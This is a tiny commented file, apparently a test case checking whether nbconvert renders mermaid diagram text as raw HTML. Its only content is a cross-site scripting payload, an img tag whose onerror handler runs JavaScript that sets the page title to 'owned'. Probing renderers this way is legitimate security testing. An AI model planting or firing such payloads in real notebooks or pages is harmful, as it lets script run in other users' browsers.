# Draws a mermaid diagram whose text is markup, which nbconvert puts onto the page as it is.
# aim: inject
# %% markdown
# ```mermaid
# <img src=x onerror="document.title = 'owned'">
# ```
